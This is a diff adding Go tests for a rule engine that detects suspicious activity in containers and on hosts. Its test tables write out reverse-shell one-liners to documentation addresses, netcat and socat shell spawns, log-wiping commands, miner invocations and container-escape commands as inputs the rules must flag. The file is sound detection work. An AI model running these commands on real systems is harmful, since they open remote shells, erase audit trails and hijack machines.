@@ -1,0 +1,151 @@
+package detect
+
+import (
+	"fmt"
+	"path"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/tsboot/tsboot/watch/event"
+)
+
+// ran is the event of a command line, whose words have no spaces, or of one whose last word is what follows " -c ".
+func ran(container *event.Container, line string) *event.Event {
+	before, script, found := strings.Cut(line, " -c ")
+	args := strings.Fields(before)
+	if found {
+		args = append(args, "-c", script)
+	}
+	e := scp(container)
+	e.Process.Executable, e.Process.Name = "/usr/bin/"+path.Base(args[0]), path.Base(args[0])
+	if strings.HasPrefix(args[0], "/") {
+		e.Process.Executable = args[0]
+	}
+	e.Process.Args, e.Process.ArgsCount, e.Process.CommandLine, e.Process.WorkingDirectory = args, len(args), line, "/"
+	return e
+}
+
+// alertsOf are the ids of the rules that match, in their order.
+func alertsOf(rules *Rules, e *event.Event) string {
+	var ids []string
+	for _, a := range rules.Judge(e) {
+		if a.Tswatch.Repeated == 0 {
+			ids = append(ids, a.Rule.ID)
+		}
+	}
+	rules.Flush()
+	return strings.Join(ids, " ")
+}
+
+func builtinRules(t *testing.T, dirs ...string) *Rules {
+	t.Helper()
+	rules, err := Load(Options{Sets: []string{BaseRuleSet, DockerRuleSet}, Dirs: dirs})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return rules
+}
+
+// TestKinds has variants of what the built-in rules look for, and what only looks like it. "in" is in a container.
+func TestKinds(t *testing.T) {
+	t.Parallel()
+	rules := builtinRules(t)
+	for _, c := range []struct{ in, lines string }{
+		{"docker-package-manager", "apt update|apt-get -y install x|dpkg -i x|apk add x|yum install x|dnf5 install x|rpm -i x|pip install x|" +
+			"pip3.12 install x|python3 -m pip install x|npm ci|yarn|gem install x|zypper in x|cargo install x"},
+		{"docker-package-manager docker-network-tool", "apk add --no-cache nmap|apt install netcat-openbsd"},
+		{"docker-download", "curl -sSL https://x.example/a|curl x.example|curl -o f 192.0.2.1:80/a|curl --url=ftp://x.example/a|wget -qO- x.example|" +
+			"curl [2001:db8::1]/a|wget -i list|curl -K config|curl HTTP://X.EXAMPLE|curl http://127.evil.example/|curl http://localhost.evil.example/|" +
+			"curl http://localhost@x.example/|curl -x http://127.0.0.1:1 http://x.example/"},
+		{"docker-remote-copy-out", "scp f h:|scp -r -P 22 d u@h:/x|/usr/bin/scp h:f .|scp f scp://h/x|scp f u@[fe80::1]:x|sftp u@h|sftp -b f h|" +
+			"rsync -a x h:y|rsync -a x h::mod|rsync -a rsync://h/mod x|ftp h|tftp h"},
+		{"", "scp a b|scp ./a:b c|scp /a:b /c|sftp|sftp -h|rsync -a /a /b|rsync --version|rsync -a ./a:b /c|rsync --chown=a:b /a /b|" +
+			"npm start|npm run build|yarn start|python3 app.py|curl --version|curl|curl http://localhost/health|curl -f http://127.0.0.1:80|" +
+			"curl http://[::1]/|curl localhost:80/health|wget --spider http://0.0.0.0:80/|curl file:///etc/hostname|" +
+			"bash -lc -c ls|sh -c ls|mount|ping h|dig x|cat /var/log/syslog"},
+		{"docker-interactive-shell", "bash|sh|bash -i|bash -l|zsh --login"},
+		{"docker-namespace-left", "nsenter -t 1 -m|unshare -r|mount /dev/sda1 /mnt"},
+		{"docker-runtime-used-inside", "docker ps|crictl ps|podman ps|runc list"},
+		{"docker-miner", "xmrig|xmrig-6.21|./x -o stratum+tcp://p:1|x --donate-level=1|x -o gulf.moneroocean.stream:10128"},
+		{"base-reverse-shell", "sh -c bash -i >& /dev/tcp/192.0.2.1/44 0>&1|bash -c exec 5<>/dev/tcp/h/1; cat <&5|php -r $s=fsockopen(1);exec(/bin/sh)"},
+		{"base-reverse-shell docker-network-tool", "nc -e /bin/sh h 1|nc h 1 -e/bin/sh|ncat --sh-exec x h|socat exec:sh tcp:h:1"},
+		{"base-exec-from-temporary-directory", "/tmp/x|/dev/shm/.x/y|/usr/bin/dash /tmp/x.sh|/usr/bin/python3.12 /var/tmp/x.py"},
+		{"base-logs-cleared", "rm -rf /var/log|rm /var/log/wtmp|shred -u /var/log/auth.log|truncate -s 0 /var/log/syslog|sed -i /x/d /var/log/secure|" +
+			"dd if=/dev/zero of=/var/log/messages|sh -c unset HISTFILE|sh -c > /var/log/auth.log|journalctl --vacuum-time=1s|dmesg -C"},
+		{"base-account-added", "useradd x|adduser x|usermod -aG sudo x|groupadd x|gpasswd -a x sudo"},
+		{"base-crontab-changed", "crontab -e|crontab -|crontab f|crontab -u x f"},
+		{"base-kernel-module-loaded", "insmod x.ko|modprobe x"},
+	} {
+		for line := range strings.SplitSeq(c.lines, "|") {
+			if got := alertsOf(rules, ran(nginx(), line)); got != inOrder(rules, c.in) {
+				t.Errorf("%s: %q, want %q", line, got, c.in)
+			}
+		}
+	}
+	if failed := rules.Failed(); len(failed) > 0 {
+		t.Errorf("failed: %v", failed)
+	}
+}
+
+// inOrder are the ids in the order of the rules.
+func inOrder(rules *Rules, ids string) string {
+	var all []string
+	for _, r := range rules.rules {
+		if slices.Contains(strings.Fields(ids), r.id) {
+			all = append(all, r.id)
+		}
+	}
+	return strings.Join(all, " ")
+}
+
+// TestQuietHost is an ordinary day of a host: cron, logins, an upgrade of packages, containers that start.
+func TestQuietHost(t *testing.T) {
+	t.Parallel()
+	rules := builtinRules(t)
+	for _, line := range []string{
+		"/usr/bin/dash -c cd / && run-parts --report /etc/cron.hourly", "run-parts --report /etc/cron.hourly", "/usr/sbin/logrotate /etc/logrotate.conf",
+		"gzip /var/log/syslog.1", "systemctl kill -s HUP rsyslog.service", "/usr/bin/systemd-tmpfiles --clean", "modprobe -q -- net-pf-10", "modprobe -abq msr",
+		"modprobe --show-depends ext4", "sshd -D -R", "bash -i", "sudo apt upgrade", "apt upgrade", "apt-get install curl", "/usr/lib/apt/methods/http",
+		"/usr/bin/dpkg --unpack x.deb", "/usr/bin/dash /var/lib/dpkg/info/x.postinst configure", "deb-systemd-invoke restart x.service",
+		"cp -p /usr/bin/kmod /var/tmp/mkinitramfs/x", "curl -fsS https://x.example/", "wget https://x.example/", "rsync -a /home /backup", "crontab -l",
+		"crontab -u ann -l", "tail -f /var/log/syslog", "rm -f /var/log/app/x.log", "git clone https://x.example/a", "ssh u@h", "docker ps",
+		"docker run -d -v /srv/www:/usr/share/nginx/html nginx", "docker run -v /tmp:/usr/share/nginx/html:ro -d nginx", "runc init", "nsenter -t 1 -n ip a",
+		"mount /dev/sdb1 /mnt", "nmap -sn 192.0.2.0/24", "sh -c date >> /var/log/messages", "python3 -c import socket; print(socket.gethostname())",
+		"bash -c (echo > /dev/tcp/db/5432) 2>&1", "id ann", "getent passwd", "passwd -S ann", "lsmod",
+	} {
+		if got := alertsOf(rules, ran(nil, line)); got != "" {
+			t.Errorf("%s: %s", line, got)
+		}
+	}
+	unit := scp(nil)
+	unit.Event.Action, unit.Event.Type, unit.Tags = "openat", []string{"creation"}, []string{"tswatch"}
+	unit.Process.Name, unit.Process.Executable = "dpkg", "/usr/bin/dpkg"
+	unit.File = &event.File{Path: "/usr/lib/systemd/system/x.service.dpkg-new"}
+	if got := alertsOf(rules, unit); got != "" {
+		t.Errorf("a package's unit: %s", got)
+	}
+}
+
+// TestAllowedDomains: a host that the list has is allowed with any scheme and port, and nothing that only looks like it. The
+// list may be long.
+func TestAllowedDomains(t *testing.T) {
+	t.Parallel()
+	list := []string{"good.example", "mirror.example"}
+	for i := range 500 {
+		list = append(list, fmt.Sprintf("h%d.example", i))
+	}
+	text := "name: Docker Rule Set\nlists: {allowed-domains: [" + strings.Join(list, ", ") + "]}\n"
+	rules := builtinRules(t, write(t, map[string]string{"own.yaml": text}))
+	for url, allowed := range map[string]bool{
+		"http://good.example/x": true, "https://good.example": true, "https://GOOD.example:8443/x?y": true, "good.example/x": true, "good.example": true,
+		"ftp://mirror.example/x": true, "https://good.example/@scope/x": true, "https://h499.example/": true, "--url=https://good.example/": true,
+		"http://good.example.evil.example/": false, "http://good.example@evil.example/": false, "http://good.example:x@evil.example/": false,
+		"http://evil.example/?u=http://good.example/": false, "http://evil.example/good.example": false, "http://sub.good.example/": false,
+		`http://good.example\@evil.example/`: false, "evil.example/good.example": false,
+	} {
+		if got := alertsOf(rules, ran(nginx(), "curl -O "+url)) == ""; got != allowed {
+			t.Errorf("%s: allowed is %v", url, got)
+		}
+	}
+}
